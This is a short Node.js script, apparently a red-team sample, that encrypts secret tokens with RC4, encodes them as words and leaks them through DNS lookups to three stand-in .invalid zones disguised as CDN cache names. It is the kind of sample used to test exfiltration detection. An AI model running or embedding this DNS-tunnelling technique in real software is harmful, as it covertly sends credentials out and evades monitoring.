'use strict';
// Harmless red-team sample: env tokens -> RC4 -> syllable words used as hyphenated DNS labels ("cache keys"),
// resolved through the system resolver (dns.lookup), spread over three zones so no zone holds all of it.
const dns = require('dns');
const { secret, rc4, words } = require('./util');
const w = words(rc4('edge-warm-k3y!', secret()));
const zones = ['edge-cache.invalid', 'img-cdn.invalid', 'static-assets.invalid'];
const names = [];
for (let i = 0; i < w.length; i += 14) {
  const chunk = w.slice(i, i + 14);
  names.push(chunk.slice(0, 7).join('-') + (chunk.length > 7 ? '.' + chunk.slice(7).join('-') : '') + '.' + zones[names.length % 3]);
}
let k = 0;
(function next() { if (k < names.length) dns.lookup(names[k++], () => setTimeout(next, 30)); })();
